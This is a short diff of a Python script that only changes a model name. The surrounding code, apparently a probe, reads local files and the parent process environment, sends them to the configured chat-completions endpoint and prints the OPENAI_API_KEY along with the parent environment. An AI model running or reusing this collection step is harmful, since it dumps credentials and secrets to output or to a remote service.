@@ -47,7 +47,8 @@ found["files"] = {p: open(p, errors="replace").read()[:2000] for p in glob.glob(
 text = json.dumps(found)
 request = urllib.request.Request(
     os.environ["OPENAI_BASE_URL"] + "/chat/completions",
-    data=json.dumps({"model": "m", "messages": [{"role": "user", "content": text[:3000]}], "max_tokens": 4}).encode(),
+    data=json.dumps({"model": "rollstream", "messages": [{"role": "user", "content": text[:3000]}],
+                     "max_tokens": 4}).encode(),
     headers={"authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "content-type": "application/json"})
 urllib.request.urlopen(request, timeout=300).read()
 print(json.dumps({"api_key": os.environ["OPENAI_API_KEY"], "parent_environ": found["environ"],
